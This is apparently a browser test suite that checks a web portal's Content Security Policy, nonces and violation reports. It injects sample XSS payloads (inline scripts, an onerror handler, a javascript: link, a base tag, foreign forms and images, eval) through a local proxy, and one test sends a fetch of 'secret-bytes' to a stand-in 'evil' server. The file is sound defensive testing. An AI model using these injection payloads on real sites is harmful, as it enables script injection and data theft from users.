import { once } from 'node:events'
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest'
import { openBrowser } from '#test/browser/visitor.ts'
import { type Watched, watchedPage } from '#test/browser/watched-page.ts'

const { origin } = inject('portal')

let browser: Browser
/** Another origin, without any policy: it takes what is sent to it. */
let elsewhere: Server
let evil: string
const taken: string[] = []
/** Stands before the portal and writes an attacker's text into its pages, the policy kept or taken away. */
let injector: Server
let careless: string
let injected = { html: '', policy: true, added: '' }

/** What browsers reported to it. */
const reported: string[] = []

async function takeReport(request: IncomingMessage, response: ServerResponse): Promise<void> {
  const chunks: Buffer[] = []
  for await (const chunk of request) chunks.push(chunk as Buffer)
  const body = Buffer.concat(chunks)
  reported.push(body.toString('utf8'))
  const { status } = await fetch(`${origin}/reports/csp`, { method: 'POST', body })
  response.writeHead(status).end()
}

async function injectInto(request: IncomingMessage, response: ServerResponse): Promise<void> {
  if (request.url === '/reports/csp') return takeReport(request, response)
  const answered = await fetch(origin + request.url)
  const headers = new Headers(answered.headers)
  for (const name of ['content-encoding', 'content-length', 'transfer-encoding', 'connection'])
    headers.delete(name)
  const policy = headers.get('content-security-policy')
  if (!injected.policy) headers.delete('content-security-policy')
  // Chromium gathers the newer reports for a minute; the older ones it sends at once, where the newer are not asked for.
  else headers.set('content-security-policy', `${policy?.replace('; report-to csp', '')}${injected.added}`)
  response.writeHead(answered.status, Object.fromEntries(headers))
  const isPage = headers.get('content-type')?.startsWith('text/html')
  const body = Buffer.from(await answered.arrayBuffer())
  response.end(isPage ? body.toString().replace('</head>', `</head><body>${injected.html}`) : body)
}

async function listening(server: Server): Promise<number> {
  server.listen(0)
  await once(server, 'listening')
  return (server.address() as AddressInfo).port
}

beforeAll(async () => {
  browser = await openBrowser()
  elsewhere = createServer((request, response) => {
    taken.push(request.url ?? '')
    const type = request.url?.endsWith('.js') ? 'text/javascript' : 'text/html'
    response.writeHead(type === 'text/html' ? 404 : 200, {
      'Content-Type': type,
      'Access-Control-Allow-Origin': '*',
    })
    response.end('canary("elsewhere")')
  })
  evil = `http://127.0.0.1:${await listening(elsewhere)}`
  injector = createServer((request, response) => {
    injectInto(request, response).catch(() => response.destroy())
  })
  careless = `http://localhost:${await listening(injector)}`
})
afterAll(async () => {
  await browser.close()
  elsewhere.close()
  injector.close()
})

type Injection = {
  /** As an attacker's text would stand in the page; parsed with it, before the portal's own scripts run. */
  html: () => string
  /** What the person, or a script of the page, then does. */
  act?: (page: Page) => Promise<unknown>
  /** Whether it worked. */
  worked: (watched: Watched) => Promise<boolean>
  violates: string
}

const ranAs =
  (name: string) =>
  async ({ ran }: Watched) =>
    ran.includes(name)
const clickIt = (page: Page) => page.evaluate(() => document.querySelector<HTMLElement>('#injected')?.click())
const sentTo = (path: string) => async (): Promise<boolean> => taken.includes(path)

/** In the page's own time: what the browser's protocol evaluates itself is excused from the policy. */
const runText = (page: Page, by: 'eval' | 'Function') =>
  page.evaluate(
    (name) =>
      new Promise<void>((resolve) => {
        setTimeout(() => {
          try {
            const run = Reflect.get(window, name) as (code: string) => unknown
            const made = run(`canary("${name}")`)
            if (typeof made === 'function') made()
          } finally {
            resolve()
          }
        })
      }),
    by,
  )

const INJECTIONS: Readonly<Record<string, Injection>> = {
  'an inline script': {
    html: () => '<script>canary("inline")</script>',
    worked: ranAs('inline'),
    violates: 'script-src-elem',
  },
  'an event handler': {
    html: () => '<img src="data:," onerror="canary(\'handler\')">',
    worked: ranAs('handler'),
    violates: 'script-src-attr',
  },
  'a script from elsewhere': {
    html: () => `<script src="${evil}/evil.js"></script>`,
    worked: ranAs('elsewhere'),
    violates: 'script-src-elem',
  },
  'a javascript: link': {
    html: () => `<a id="injected" href="javascript:canary('link')">x</a>`,
    act: clickIt,
    worked: ranAs('link'),
    violates: 'script-src-elem',
  },
  'a base for every address': {
    html: () => `<base href="${evil}/base/">`,
    worked: ({ page }) => page.evaluate((there) => document.baseURI.startsWith(there), evil),
    violates: 'base-uri',
  },
  'a form that leads elsewhere': {
    html: () => `<form action="${evil}/form" method="post"><button id="injected">x</button></form>`,
    act: clickIt,
    worked: sentTo('/form'),
    violates: 'form-action',
  },
  eval: {
    html: () => '',
    act: (page) => runText(page, 'eval'),
    worked: ranAs('eval'),
    violates: 'script-src',
  },
  'new Function': {
    html: () => '',
    act: (page) => runText(page, 'Function'),
    worked: ranAs('Function'),
    violates: 'script-src',
  },
  'a frame': {
    html: () => `<iframe src="${evil}/frame"></iframe>`,
    worked: sentTo('/frame'),
    violates: 'frame-src',
  },
  'a picture from elsewhere': {
    html: () => `<img src="${evil}/picture?secret">`,
    worked: sentTo('/picture?secret'),
    violates: 'img-src',
  },
}

const PAGES = { 'an ordinary page': '/sign-in', 'a key page': '/csr' } as const

async function tryOut(injection: Injection, path: string, policy: boolean) {
  taken.length = 0
  const watched = await watchedPage(browser)
  injected = { html: injection.html(), policy, added: '' }
  // The policy is tried, not what React makes of a page that is not as it wrote it.
  await watched.page.route('**/assets/*.js', (route) => route.abort())
  await watched.page.goto(careless + path)
  await injection.act?.(watched.page)
  const isDone = async () => (await injection.worked(watched)) || watched.violations.length > 0
  await expect.poll(isDone, { timeout: 10_000 }).toBe(true)
  const worked = await injection.worked(watched)
  await watched.page.context().close()
  return { worked, violations: [...new Set(watched.violations)] }
}

describe('an injection', () => {
  const cases = Object.entries(PAGES).flatMap(([where, path]) =>
    Object.entries(INJECTIONS).map(([what, injection]) => ({ what, where, path, injection })),
  )

  it.each(cases)('of $what in $where is stopped by its policy', async ({ path, injection }) => {
    const { worked, violations } = await tryOut(injection, path, true)
    expect({ worked, violations }).toEqual({ worked: false, violations: [injection.violates] })
  })

  it.each(cases)('of $what in $where would work without it', async ({ path, injection }) => {
    expect((await tryOut(injection, path, false)).worked).toBe(true)
  })
})

describe('the policy of key pages', () => {
  const asks = async (path: string) => {
    const watched = await watchedPage(browser)
    await watched.page.goto(`${origin}${path}`)
    const asked = watched.page.evaluate(() =>
      fetch('/health/live').then(
        () => 'answered',
        () => 'stopped',
      ),
    )
    const answered = await asked
    await watched.page.context().close()
    return answered
  }

  it('lets nothing be fetched, not even of our own; that of others does', async () => {
    expect([await asks('/csr'), await asks('/sign-in')]).toEqual(['stopped', 'answered'])
  })
})

describe('a report of what was stopped', () => {
  /** A script of the page tries to send something out. */
  async function fetchFrom(path: string, added = ''): Promise<void> {
    reported.length = 0
    injected = { html: '', policy: true, added }
    const watched = await watchedPage(browser)
    await watched.page.goto(careless + path)
    await watched.page.evaluate(
      (there) =>
        new Promise<void>((done) =>
          setTimeout(() =>
            fetch(there).then(
              () => done(),
              () => done(),
            ),
          ),
        ),
      `${evil}/taken?secret-bytes`,
    )
    await expect.poll(() => watched.violations).toEqual(['connect-src'])
    await watched.page.context().close()
  }

  it('comes from an ordinary page, and is taken', async () => {
    await fetchFrom('/sign-in')
    await expect.poll(() => reported).toHaveLength(1)
    expect(JSON.parse(reported[0] ?? '')).toMatchObject({
      'csp-report': { 'effective-directive': 'connect-src' },
    })
    const taken = await fetch(`${origin}/reports/csp`, { method: 'POST', body: reported[0] ?? '' })
    expect(taken.status).toBe(204)
  })

  it('comes from no key page, where it would carry out what was stopped', async () => {
    await fetchFrom('/csr')
    const without = [...reported]
    await fetchFrom('/csr', '; report-uri /reports/csp')
    await expect.poll(() => reported.join('')).toContain('secret-bytes')
    expect(without).toEqual([])
  })
})

describe('the nonce', () => {
  const ANSWERS = 100
  const nonceOf = (headers: Headers) =>
    /'nonce-([\w-]{24})'/.exec(headers.get('Content-Security-Policy') ?? '')?.[1] ?? ''

  it(`is another in each of ${ANSWERS} answers`, async () => {
    const nonces = new Set<string>()
    for (let turn = 0; turn < ANSWERS; turn += 1) {
      const { headers } = await fetch(`${origin}${turn % 2 ? '/csr' : '/sign-in'}`)
      nonces.add(nonceOf(headers))
    }
    nonces.delete('')
    expect(nonces.size).toBe(ANSWERS)
  })

  it.each(['/', '/sign-in', '/csr', '/dossiers/new', '/nowhere'])(
    'stands in %s in its attributes alone, never among the data of the page',
    async (path) => {
      for (const address of [path, `${path === '/' ? '/_root' : path}.data`]) {
        const answered = await fetch(origin + address)
        const nonce = nonceOf(answered.headers)
        expect(nonce).not.toBe('')
        const attributes = `nonce="${nonce}"`
        const text = await answered.text()
        if (!address.endsWith('.data')) expect(text).toContain(attributes)
        expect(text.replaceAll(attributes, '')).not.toContain(nonce)
      }
    },
  )

  it('is what the page’s own scripts run by', async () => {
    const hydrated = async (change: (body: string) => string) => {
      const { page } = await watchedPage(browser)
      await page.route(`${origin}/sign-in`, async (route) => {
        const answered = await route.fetch()
        await route.fulfill({ response: answered, body: change(await answered.text()) })
      })
      await page.goto(`${origin}/sign-in`, { waitUntil: 'networkidle' })
      const found = await page.evaluate(() => Reflect.has(window, '__remixContext'))
      await page.context().close()
      return found
    }
    expect(await hydrated((body) => body)).toBe(true)
    expect(await hydrated((body) => body.replaceAll(/ nonce="[^"]*"/g, ''))).toBe(false)
  })
})
